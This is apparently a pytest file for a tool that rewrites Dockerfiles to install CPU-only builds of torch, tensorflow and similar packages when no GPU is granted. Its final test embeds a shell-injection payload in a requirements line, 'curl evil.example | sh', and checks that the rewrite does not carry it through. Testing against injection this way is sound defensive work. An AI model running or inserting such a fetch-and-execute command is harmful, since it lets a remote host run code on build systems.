"""CPU builds instead of GPU builds: when, on which lines, and what is said where nothing is done."""

from collections.abc import Mapping
from dataclasses import replace

import pytest

from imgopt_pipeline.dockerfiles.cpu_packages import cpu_packages
from imgopt_pipeline.dockerfiles.facts import BuilderFacts, ContextFacts, ImageFacts, PackageFacts, PackageSources
from imgopt_pipeline.dockerfiles.python_installs import named
from imgopt_pipeline.dockerfiles.requirement_files import sed_script
from imgopt_pipeline.dockerfiles.rewriting import Rewrite, rewrite
from imgopt_pipeline.dockerfiles.rules.cpu_only import RULE

INDEX = PackageSources(cpu_index="https://cpu.example/whl/cpu")
SITE = "usr/local/lib/python3.11/site-packages"


def _python(
    name: str, version: str = "1.0", role: str = "", requires: tuple[str, ...] = (), size_mb: int = 100
) -> PackageFacts:
    return PackageFacts("python", name, version, SITE, gpu_role=role, requires=requires, size_bytes=size_mb * 10**6)


CUDNN = _python("nvidia-cudnn-cu12", "9.1", "library", size_mb=1000)
TRITON = _python("triton", "3.4.0", "compiler", size_mb=500)
TORCH = _python("torch", "2.8.0", "framework", ("nvidia-cudnn-cu12", "triton"), size_mb=2000)


def _image(*packages: PackageFacts, verdict: str = "denied", base: int | None = None) -> ImageFacts:
    return ImageFacts("app", 10**9, verdict, packages, base_position=base)


def _rewritten(
    body: str,
    *packages: PackageFacts,
    texts: Mapping[str, str] | None = None,
    sources: PackageSources = INDEX,
    verdict: str = "denied",
    builder: BuilderFacts | None = None,
) -> Rewrite:
    text = f"FROM python:3.11\n{body}\n"
    image = _image(*packages, verdict=verdict)
    context = ContextFacts(texts=texts) if texts is not None else None
    result = rewrite(text, [RULE], image=image, context=context, sources=sources, builder=builder)
    again = rewrite(result.text, [RULE], image=image, context=context, sources=sources, builder=builder)
    assert again.text == result.text
    return result


@pytest.mark.parametrize("verdict", ["granted", "unknown", "optional", "needed"])
def test_nothing_changes_unless_a_gpu_is_denied(verdict: str) -> None:
    assert _rewritten("RUN pip install torch", TORCH, CUDNN, TRITON, verdict=verdict).techniques == ()


def test_only_lines_that_can_bring_it_are_changed() -> None:
    body = "RUN pip install --upgrade pip\nRUN pip install flask\nRUN pip install app\nRUN pip install unknown -e ."
    packages = (TORCH, _python("flask"), _python("app", requires=("torch",)), _python("pip"))
    lines = _rewritten(body, *packages).text.split("\n")
    assert lines[1:3] == ["RUN pip install --upgrade pip", "RUN pip install flask"]
    assert _rewritten(body, *packages).text.count("--constraint /tmp/cpu-only.txt") == 2
    assert lines[3].startswith("RUN printf '%s\\n' torch==2.8.0+cpu > /tmp/cpu-only.txt \\")


def test_the_last_line_that_can_bring_it_asserts_that_it_did_not() -> None:
    text = _rewritten(
        "RUN pip install torch\nRUN pip install -r a.txt\nRUN pip install flask", TORCH, CUDNN, TRITON
    ).text
    assert text.count("torch.version.cuda is None") == 1
    assert text.index("-r a.txt") < text.index("torch.version.cuda is None") < text.index("flask")


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("--index-url https://x.example/whl/cu121 torch", "--index-url https://cpu.example/whl/cpu torch"),
        ("-i https://x.example/whl/cu121 torch", "-i https://cpu.example/whl/cpu torch"),
        ("torch --extra-index-url=https://x.example/whl/cu118", "torch --extra-index-url=https://cpu.example/whl/cpu"),
        ("torch --index-url 'https://x.example/whl/rocm6.1/'", "torch --index-url 'https://cpu.example/whl/cpu'"),
        ("torch==2.8.0+cu128", "--extra-index-url https://cpu.example/whl/cpu torch==2.8.0+cpu"),
        ("torch --index-url https://x.example/whl/$CUDA", "torch --index-url https://cpu.example/whl/cpu"),
        ("torch -i https://mirror.example/simple", "--extra-index-url https://cpu.example/whl/cpu torch -i https://m"),
    ],
)
def test_places_of_cuda_builds_become_the_cpu_index(before: str, after: str) -> None:
    text = _rewritten(f"RUN pip install {before}", TORCH).text.replace(" \\\n        ", " ")
    assert f"pip install --constraint /tmp/cpu-only.txt {after}" in text


def test_folders_of_wheels_become_named_contexts() -> None:
    sources = PackageSources(find_links=("/opt/wheels", "file:///srv/more", "https://page.example/torch.html"))
    result = _rewritten("RUN pip install torch -i https://x.example/whl/cu128", TORCH, sources=sources)
    assert result.contexts == {"cpu-wheels": "/opt/wheels", "cpu-wheels-2": "/srv/more"}
    assert "--mount=type=bind,from=cpu-wheels,target=/tmp/cpu-wheels" in result.text
    assert "--find-links /tmp/cpu-wheels-2" in result.text
    assert "--find-links https://page.example/torch.html" in result.text
    assert "x.example" not in result.text
    assert "/opt/wheels" not in result.text


def test_without_named_contexts_a_folder_of_wheels_is_no_source() -> None:
    sources = PackageSources(find_links=("/opt/wheels",))
    result = _rewritten("RUN pip install torch", TORCH, sources=sources, builder=BuilderFacts(named_contexts=False))
    assert "builds.find_links" in result.left_out["R1"]


@pytest.mark.parametrize(
    ("body", "texts", "said"),
    [
        (
            "COPY requirements.txt .\nRUN pip install -r requirements.txt",
            {"requirements.txt": "torch --hash=sha256:1"},
            "hashes",
        ),
        ("RUN pip install --require-hashes -r r.txt", None, "hashes"),
        ("RUN poetry install", None, "poetry.lock"),
        ("RUN uv sync --frozen", None, "uv.lock"),
        ("RUN uv pip sync requirements.txt", None, "uv pip sync"),
        ("RUN make install", None, "no pip line"),
        ('RUN ["pip", "install", "torch"]', None, "no pip line"),
    ],
)
def test_what_cannot_be_edited_is_said(body: str, texts: dict[str, str] | None, said: str) -> None:
    result = _rewritten(body, TORCH, texts=texts)
    assert said in result.left_out["R1"]
    assert result.text == result.original


def test_what_the_base_image_brings_is_left() -> None:
    image = _image(replace(TORCH, position=2), base=5)
    result = rewrite("FROM pytorch/pytorch\nRUN pip install flask\n", [RULE], image=image, sources=INDEX)
    assert "base image" in result.left_out["R1"]


@pytest.mark.parametrize(
    ("package", "line", "after"),
    [
        (_python("onnxruntime-gpu", role="framework"), "onnxruntime_gpu==1.20", "onnxruntime==1.20"),
        (_python("tensorflow", role="framework"), "'tensorflow[and-cuda]>=2.19'", "'tensorflow-cpu>=2.19'"),
        (_python("jax-cuda12-plugin", role="plugin"), "jax[cuda12,k8s]", "jax[k8s]"),
        (_python("faiss-gpu-cu12", role="framework"), "faiss-gpu-cu12", "faiss-cpu"),
        (_python("xgboost", role="framework"), "xgboost~=3.0", "xgboost-cpu~=3.0"),
        (_python("paddlepaddle-gpu", role="framework"), '"paddlepaddle-gpu==2.6.2"', '"paddlepaddle==2.6.2"'),
    ],
)
def test_other_frameworks_go_by_another_name(package: PackageFacts, line: str, after: str) -> None:
    assert (
        _rewritten(f"RUN pip install {line} numpy", package).text
        == f"FROM python:3.11\nRUN pip install {after} numpy\n"
    )


def test_a_name_that_another_package_requires_stays() -> None:
    packages = (_python("tensorflow", role="framework"), _python("tf-keras", requires=("tensorflow",)))
    assert "tf-keras requires it" in _rewritten("RUN pip install tensorflow tf-keras", *packages).left_out["R1"]


def test_cupy_has_no_cpu_build() -> None:
    assert (
        "no CPU build"
        in _rewritten("RUN pip install cupy-cuda12x", _python("cupy-cuda12x", role="framework")).left_out["R1"]
    )


def test_a_line_of_gpu_libraries_alone_goes() -> None:
    body = "RUN pip install nvidia-cudnn-cu12\nRUN pip install onnxruntime-gpu"
    result = _rewritten(body, CUDNN, _python("onnxruntime-gpu", role="framework"))
    assert "cudnn" not in result.text
    assert result.replaces == {"onnxruntime-gpu": "onnxruntime", "nvidia-cudnn-cu12": ""}


@pytest.mark.parametrize(
    ("copied", "used"),
    [
        ("COPY . /app\nWORKDIR /app", "deploy/r.txt"),
        ("COPY deploy /deploy", "/deploy/r.txt"),
        ("COPY deploy/*.txt /x/", "/x/r.txt"),
        ("WORKDIR /app\nCOPY deploy/r.txt setup.py ./", "r.txt"),
        ("COPY deploy/r.txt /x/requirements.txt", "/x/requirements.txt"),
        ("ENV HOME=/srv\nCOPY deploy/r.txt $HOME/", "${HOME}/r.txt".replace("${HOME}", "/srv")),
    ],
)
def test_requirements_are_found_through_what_is_copied(copied: str, used: str) -> None:
    result = _rewritten(
        f"{copied}\nRUN pip install -r {used}",
        _python("onnxruntime-gpu", role="framework"),
        texts={"deploy/r.txt": "onnxruntime-gpu\n"},
    )
    assert f"sed 's/^onnxruntime-gpu$/onnxruntime/' {used} > /tmp/" in result.text


def test_a_mounted_file_that_names_others_cannot_be_changed() -> None:
    result = _rewritten(
        "RUN --mount=type=bind,source=r.txt,target=/r.txt pip install -r /r.txt",
        _python("onnxruntime-gpu", role="framework"),
        texts={"r.txt": "-r more.txt\nonnxruntime-gpu\n", "more.txt": ""},
    )
    assert "cannot be changed" in result.left_out["R1"]


@pytest.mark.parametrize(
    ("line", "old", "new", "script"),
    [
        ("xgboost", "xgboost", "xgboost-cpu", "s/^xgboost$/xgboost-cpu/"),
        ("xgboost>=2,<3", "xgboost", "xgboost-cpu", "s/^xgboost>=/xgboost-cpu>=/"),
        ("xgboost ; sys_platform", "xgboost", "xgboost-cpu", r"s/^xgboost\b/xgboost-cpu/"),
        ("jax[cuda12]==0.6", "jax[cuda12]", "jax", r"s/^jax\[cuda12\]==/jax==/"),
        ("nvidia-cudnn-cu12==9", "nvidia-cudnn-cu12", "", "/^nvidia-cudnn-cu12==/d"),
    ],
)
def test_sed_changes_that_line_and_no_other(line: str, old: str, new: str, script: str) -> None:
    package = named(line)
    assert package is not None
    assert sed_script(package, old, new) == script


def test_what_goes_along_is_what_nothing_else_needs() -> None:
    whisperx = _python("whisperx", requires=("torch", "triton"))
    cpu = cpu_packages(_image(TORCH, CUDNN, TRITON, whisperx))
    assert cpu.pins == {"torch": "2.8.0+cpu"}
    assert cpu.libraries == {"nvidia-cudnn-cu12"}
    assert cpu.reaching == {"torch", "whisperx"}
    assert cpu.clean
    assert cpu.expected is not None
    assert 10**9 < cpu.expected.low_bytes <= cpu.expected.likely_bytes <= cpu.expected.high_bytes < 3 * 10**9
    kept = cpu_packages(_image(TORCH, CUDNN, TRITON, _python("dali", requires=("nvidia-cudnn-cu12",))))
    assert kept.libraries == {"triton"}
    assert not kept.clean


def test_a_file_cannot_smuggle_commands_into_the_shell() -> None:
    result = _rewritten(
        "COPY r.txt .\nRUN pip install -r r.txt",
        _python("tensorflow", role="framework"),
        texts={"r.txt": "tensorflow[and-cuda'; curl evil.example | sh; ']==2\n"},
    )
    assert "evil" not in result.text
